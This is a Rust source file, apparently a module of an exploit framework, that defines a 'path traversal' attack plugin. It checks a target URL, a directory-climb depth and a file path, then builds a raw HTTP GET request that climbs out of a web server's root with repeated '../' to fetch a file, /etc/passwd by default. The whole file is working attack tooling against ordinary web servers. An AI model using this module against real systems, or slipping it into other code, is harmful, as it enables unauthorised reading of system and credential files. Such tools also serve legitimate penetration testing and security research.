//! Built-in exploits.

use url::Url;

use super::{expect_integer, expect_str};
use crate::capability::{Buildable, Capability, PluginRejection};
use crate::class::ClassDefinition;
use crate::schema::{DeclaredType, ParamDecl};
use crate::value::ParamValue;

const DEFAULT_DEPTH: u8 = 6;
const DEFAULT_FILE: &str = "/etc/passwd";

pub(super) fn path_traversal() -> ClassDefinition {
    ClassDefinition::new("Requests a file outside the web root", || {
        Capability::buildable(PathTraversal::default())
    })
    .with_params(vec![
        ParamDecl::new("target", DeclaredType::String)
            .required()
            .describe("Base URL of the vulnerable endpoint"),
        ParamDecl::new("depth", DeclaredType::Integer)
            .with_range(1, 16)
            .with_default(ParamValue::Integer(i64::from(DEFAULT_DEPTH)))
            .describe("Directories to climb"),
        ParamDecl::new("file", DeclaredType::String)
            .with_default(ParamValue::from(DEFAULT_FILE))
            .describe("Absolute path of the file to fetch"),
    ])
}

#[derive(Debug)]
struct PathTraversal {
    target: Option<Url>,
    depth: u8,
    file: String,
}

impl Default for PathTraversal {
    fn default() -> Self {
        Self {
            target: None,
            depth: DEFAULT_DEPTH,
            file: DEFAULT_FILE.to_owned(),
        }
    }
}

impl Buildable for PathTraversal {
    fn assign(&mut self, name: &str, value: &ParamValue) -> Result<(), PluginRejection> {
        match name {
            "target" => {
                let raw = expect_str(value)?.trim();
                let target = Url::parse(raw)
                    .map_err(|error| PluginRejection::new(format!("invalid target URL: {error}")))?;
                if !matches!(target.scheme(), "http" | "https") {
                    return Err(PluginRejection::new(format!(
                        "target scheme must be http or https, got '{}'",
                        target.scheme()
                    )));
                }
                if target.host_str().is_none() {
                    return Err(PluginRejection::new("target URL has no host"));
                }
                self.target = Some(target);
            }
            "depth" => {
                let depth = expect_integer(value)?;
                self.depth = u8::try_from(depth)
                    .ok()
                    .filter(|depth| *depth > 0)
                    .ok_or_else(|| PluginRejection::new(format!("depth {depth} is out of range")))?;
            }
            "file" => {
                let file = expect_str(value)?;
                if file.contains(['\r', '\n', '\0']) {
                    return Err(PluginRejection::new("file must not contain control characters"));
                }
                self.file = file.to_owned();
            }
            _ => return Err(PluginRejection::unknown_param(name)),
        }
        Ok(())
    }

    fn validate(&self) -> Result<(), PluginRejection> {
        if self.target.is_none() {
            return Err(PluginRejection::new("target is not set"));
        }
        if !self.file.starts_with('/') {
            return Err(PluginRejection::new(format!(
                "file '{}' must be an absolute path",
                self.file
            )));
        }
        Ok(())
    }

    fn build(&self) -> Result<String, PluginRejection> {
        let target = self
            .target
            .as_ref()
            .ok_or_else(|| PluginRejection::new("target is not set"))?;
        let host = target
            .host_str()
            .ok_or_else(|| PluginRejection::new("target URL has no host"))?;
        let authority = match target.port() {
            Some(port) => format!("{host}:{port}"),
            None => host.to_owned(),
        };
        let base = target.path().trim_end_matches('/');
        let climb = "../".repeat(usize::from(self.depth));
        let file = self.file.trim_start_matches('/');
        Ok(format!(
            "GET {base}/{climb}{file} HTTP/1.1\r\nHost: {authority}\r\n\r\n"
        ))
    }
}
